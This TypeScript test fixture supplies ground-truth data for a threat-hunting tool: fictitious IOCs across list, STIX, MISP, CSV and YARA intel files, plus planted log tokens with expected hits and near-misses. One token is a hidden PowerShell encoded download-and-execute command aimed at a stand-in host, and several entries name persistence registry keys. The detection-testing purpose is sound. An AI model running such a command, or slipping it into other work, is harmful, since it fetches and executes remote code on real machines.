// The planted indicators of the hunt corpus: what each intel file says, and every token the generator
// writes into logs with the hits it must (or must not) produce. This table is the ground-truth oracle.
import { createHash } from 'node:crypto';

/** An expected hit: the indicator's canonical value, its match kind, and the intel file it comes from. */
export interface Expect {
  indicator: string;
  match: string;
  source: string;
}

/** A token written into a log line, and the hits it must produce (none for a near-miss). */
export interface Plant {
  token: string;
  hits: Expect[];
  /** Only formats that can carry it (JSON-escaped variants, tokens with spaces…). */
  only?: string[];
}

const LIST = 'list.txt';
const STIX = 'stix.json';
const MISP = 'misp.json';
const CSV = 'feed.csv';

export const D1 = 'kx-update-svc.net';
export const U1 = 'http://files.kx-cdn.org/a/b.php';
export const I1 = '45.86.12.34';
export const E1 = 'billing@kx-mail.net';
export const D2 = 'qq-telemetry.info';
export const C1 = '91.213.50.0/24';
export const V1 = '2a03:b0c0:3:d0::1a2b';
export const N1 = 'invoice-update.exe';
export const U2 = 'https://dl.qq-telemetry.info/pkg/x.zip';
export const I2 = '77.91.68.5';
export const D3 = 'mx.kx-relay.biz';
export const V6NET = '2a0e:97c0:3f0::/44';
export const D4 = 'secure-login-portal.co';
export const E2 = 'soc-alerts@qq-telemetry.info';
export const P1 = 'C:\\ProgramData\\svc\\kxsvc.dll';
/** A Linux path whose last component has no dot. */
export const P2 = '/tmp/.X11-cache/kp';
/** Registry keys: a Run value (list), a service key (MISP `regkey|value`), an IFEO key with spaces (STIX). */
export const R1 = 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\KxUpdater';
export const R2 = 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\KxSvc';
export const R3 = 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe';
/** Formats whose lines may carry a token with spaces without moving other fields. */
const SPACED = ['json', 'csv', 'zeek-tsv', 'syslog', 'text'];

/** Bytes of the binary targets (their hashes are intel). */
export const TOOL_DAT = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1'), Buffer.alloc(64), Buffer.from('PBX-MARKER-7731 benign test marker\x00\x00', 'latin1'), Buffer.alloc(32, 7)]);
export const PAYLOAD_BIN = Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(128), Buffer.from('harmless look-alike payload', 'latin1')]);
export const FAKE_EXE = Buffer.concat([Buffer.from('MZ\x00\x00', 'latin1'), Buffer.alloc(40, 1)]);

const hex = (algo: string, b: Buffer): string => createHash(algo).update(b).digest('hex');
export const M1 = hex('md5', PAYLOAD_BIN);
export const S1 = hex('sha256', Buffer.from('pillbox planted sha256 one'));
export const H1 = hex('sha1', Buffer.from('pillbox planted sha1 one'));
export const TOOL_SHA256 = hex('sha256', TOOL_DAT);

/** The intel files, written as an analyst would receive them (defanged, mixed case, comments). */
export function intelFiles(): Record<string, string> {
  const list = [
    '# IOCs from the Kx campaign write-up (defanged)',
    'kx-update-svc[.]net',
    'hxxp://files.kx-cdn[.]org/a/b.php',
    '45.86.12[.]34',
    'billing[@]kx-mail.net',
    M1.toUpperCase(),
    R1,
    '8.8.8.8   # public resolver: benign, left out by default',
    'google.com',
    '',
  ].join('\n');
  const stix = {
    type: 'bundle', id: 'bundle--5b1b0c7e-0000-4000-8000-000000000001', spec_version: '2.1',
    objects: [
      { type: 'report', spec_version: '2.1', id: 'report--5b1b0c7e-0000-4000-8000-000000000002', name: 'QQ telemetry implant', published: '2026-01-01T00:00:00Z', object_refs: [] },
      { type: 'indicator', spec_version: '2.1', id: 'indicator--5b1b0c7e-0000-4000-8000-000000000003', pattern_type: 'stix', pattern: `[domain-name:value = '${D2}'] OR [url:value = '${U2}']` },
      { type: 'indicator', spec_version: '2.1', id: 'indicator--5b1b0c7e-0000-4000-8000-000000000004', pattern_type: 'stix', pattern: `[ipv4-addr:value ISSUBSET '${C1}'] AND [file:hashes.'SHA-256' = '${S1.toUpperCase()}']` },
      { type: 'indicator', spec_version: '2.1', id: 'indicator--5b1b0c7e-0000-4000-8000-000000000005', pattern_type: 'stix', pattern: `[ipv6-addr:value = '${V1}' OR file:name = '${N1}']` },
      { type: 'indicator', spec_version: '2.1', id: 'indicator--5b1b0c7e-0000-4000-8000-000000000006', pattern_type: 'stix', pattern: "[url:value LIKE '%kx%']" },
      { type: 'indicator', spec_version: '2.1', id: 'indicator--5b1b0c7e-0000-4000-8000-000000000007', pattern_type: 'stix', pattern: `[windows-registry-key:key = '${R3.replace(/\\/g, '\\\\')}']` },
    ],
  };
  const misp = {
    Event: {
      info: 'Kx relay infrastructure',
      Attribute: [
        { type: 'sha1', value: H1, to_ids: true },
        { type: 'ip-dst|port', value: `${I2}|443`, to_ids: true },
        { type: 'hostname', value: D3, to_ids: true },
        { type: 'regkey|value', value: `${R2}|%SystemRoot%\\kxsvc.dll`, to_ids: true },
        { type: 'ip-dst', value: V6NET, to_ids: true },
        { type: 'domain', value: 'ignored-domain.xyz', to_ids: false },
      ],
      Object: [{ name: 'file', Attribute: [{ type: 'filename|sha256', value: `tool.dat|${TOOL_SHA256}`, to_ids: true }] }],
    },
  };
  const csv = ['indicator,type,comment', `"${P1}",filepath,dropped DLL`, `${E2},email,"phishing sender, Q1"`, `${D4},domain,credential phishing`, `${P2},filepath,Linux implant`, ''].join('\n');
  const yara = 'rule Pillbox_Test_Marker {\n  meta:\n    description = "planted marker in the hunt corpus"\n  strings:\n    $m = "PBX-MARKER-7731"\n  condition:\n    $m\n}\n';
  return { [LIST]: list, [STIX]: JSON.stringify(stix, null, 2), [MISP]: JSON.stringify(misp, null, 2), [CSV]: csv, 'rules.yar': yara };
}

const e = (indicator: string, match: string, source: string): Expect => ({ indicator, match, source });
const NONE: Expect[] = [];

/** Every planted token: hits first, then the traps (near-misses) that must stay silent. */
export function plants(): Plant[] {
  return [
    { token: D1, hits: [e(D1, 'exact', LIST)] },
    { token: D1.toUpperCase(), hits: [e(D1, 'exact', LIST)] },
    { token: `www.${D1}`, hits: [e(D1, 'subdomain', LIST)] },
    { token: `${D1}.`, hits: [e(D1, 'exact', LIST)] },
    { token: U1, hits: [e(U1, 'url', LIST)] },
    { token: 'HTTP://Files.KX-CDN.org:80/a/b.php?id=7', hits: [e(U1, 'url', LIST)] },
    { token: 'http://files.kx-cdn.org/a/%62.php', hits: [e(U1, 'url', LIST)] },
    { token: 'http://files.kx-cdn.org/a/b.php/', hits: [e(U1, 'url', LIST)] },
    { token: 'http:\\/\\/files.kx-cdn.org\\/a\\/b.php', hits: [e(U1, 'url', LIST)], only: ['json'] },
    { token: 'http://files.kx-cdn.org/other', hits: [e(U1, 'url-host', LIST)] },
    { token: 'files.kx-cdn.org', hits: [e(U1, 'url-host', LIST)] },
    { token: I1, hits: [e(I1, 'exact', LIST)] },
    { token: I2, hits: [e(I2, 'exact', MISP)] },
    { token: '91.213.50.7', hits: [e(C1, 'cidr', STIX)] },
    { token: '91.213.50.255', hits: [e(C1, 'cidr', STIX)] },
    { token: '2A03:B0C0:0003:00D0:0000:0000:0000:1A2B', hits: [e(V1, 'exact', STIX)] },
    { token: `[${V1}]:443`, hits: [e(V1, 'exact', STIX)] },
    { token: '2a0e:97c0:3f1::5', hits: [e(V6NET, 'cidr', MISP)] },
    { token: `MD5=${M1.toUpperCase()},IMPHASH=00`, hits: [e(M1, 'hash', LIST)] },
    { token: `SHA256=${S1.toUpperCase()}`, hits: [e(S1, 'hash', STIX)] },
    { token: H1, hits: [e(H1, 'hash', MISP)] },
    { token: 'Billing@KX-Mail.net', hits: [e(E1, 'exact', LIST)] },
    { token: E2, hits: [e(E2, 'exact', CSV), e(D2, 'exact', STIX)] },
    { token: D2, hits: [e(D2, 'exact', STIX)] },
    { token: `cdn.${D2}`, hits: [e(D2, 'subdomain', STIX)] },
    { token: 'https://dl.qq-telemetry.info:443/pkg/x.zip', hits: [e(U2, 'url', STIX), e(D2, 'subdomain', STIX)] },
    { token: D3, hits: [e(D3, 'exact', MISP)] },
    { token: `a.${D3}`, hits: [e(D3, 'subdomain', MISP)] },
    { token: D4, hits: [e(D4, 'exact', CSV)] },
    { token: `C:\\Users\\bob\\AppData\\Local\\Temp\\${N1}`, hits: [e(N1, 'filename', STIX)] },
    { token: '/tmp/Invoice-Update.EXE', hits: [e(N1, 'filename', STIX)] },
    { token: P1, hits: [e(P1, 'filepath', CSV)] },
    { token: 'c:/programdata/svc/kxsvc.dll', hits: [e(P1, 'filepath', CSV)] },
    { token: P2, hits: [e(P2, 'filepath', CSV)] },
    { token: `exec=${P2}`, hits: [e(P2, 'filepath', CSV)] },
    // The URL only inside a PowerShell encoded command (base64 of UTF-16LE): no byte search sees it.
    { token: `powershell -w hidden -enc ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('${U1}')`, 'utf16le').toString('base64')}`, hits: [e(U1, 'url', LIST)], only: SPACED },
    { token: R1, hits: [e(R1, 'registry', LIST)] },
    { token: 'HKU\\S-1-5-21-3623811015-3361044348-30300820-1013\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\KxUpdater', hits: [e(R1, 'registry', LIST)] },
    { token: '\\REGISTRY\\USER\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\kxupdater', hits: [e(R1, 'registry', LIST)] },
    { token: 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\KxUpdater', hits: [e(R1, 'registry', LIST)] },
    { token: 'HKEY_LOCAL_MACHINE\\System\\ControlSet001\\Services\\KxSvc\\Parameters\\ServiceDll', hits: [e(R2, 'subkey', MISP)] },
    { token: R2, hits: [e(R2, 'registry', MISP)] },
    { token: 'HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger', hits: [e(R3, 'subkey', STIX)], only: SPACED },
    { token: 'HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\SETHC.EXE', hits: [e(R3, 'registry', STIX)], only: SPACED },
    // Near-misses: substring matching fires on all of these; a correct hunt must not.
    { token: `not${D1}`, hits: NONE },
    { token: `${D1}.au`, hits: NONE },
    { token: `${D1}work`, hits: NONE },
    { token: `${D1}-cdn.com`, hits: NONE },
    { token: 'http://files.kx-cdn.org.evil.io/a/b.php', hits: NONE },
    { token: 'http://notfiles.kx-cdn.org/a/b.php', hits: NONE },
    { token: `1${I1}`, hits: NONE },
    { token: `${I1}5`, hits: NONE },
    { token: `${I1}.5`, hits: NONE },
    { token: '91.213.51.0', hits: NONE },
    { token: '91.213.49.255', hits: NONE },
    { token: '2a03:b0c0:3:d0::1a2c', hits: NONE },
    { token: '2a0e:97c0:400::1', hits: NONE },
    { token: `${M1}00`, hits: NONE },
    { token: `ab${M1}`, hits: NONE },
    { token: `${S1}ff`, hits: NONE },
    { token: `${H1}0`, hits: NONE },
    { token: 'xbilling@kx-mail.net', hits: NONE },
    { token: `${D2}rmation`, hits: NONE },
    { token: `fake${D2}`, hits: NONE },
    { token: 'kx-relay.biz', hits: NONE },
    { token: `${D4}.uk`, hits: NONE },
    { token: `${D4}m`, hits: NONE },
    { token: `not${N1}`, hits: NONE },
    { token: `${N1}.txt`, hits: NONE },
    { token: 'D:\\ProgramData\\svc\\kxsvc.dll', hits: NONE },
    { token: 'C:\\ProgramData\\svc2\\kxsvc.dll', hits: NONE },
    { token: 'ignored-domain.xyz', hits: NONE },
    { token: '8.8.8.8', hits: NONE },
    { token: `${P2}2`, hits: NONE },
    { token: `/var${P2}`, hits: NONE },
    { token: `${P2}.sh`, hits: NONE },
    { token: `${R1}2`, hits: NONE },
    { token: R1.replace('\\Run\\', '\\RunOnce\\'), hits: NONE },
    { token: R1.replace('HKCU', 'HKLM'), hits: NONE },
    { token: `X${R1}`, hits: NONE },
    { token: `${R2}Helper`, hits: NONE },
    { token: 'HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe.bak', hits: NONE, only: SPACED },
  ];
}
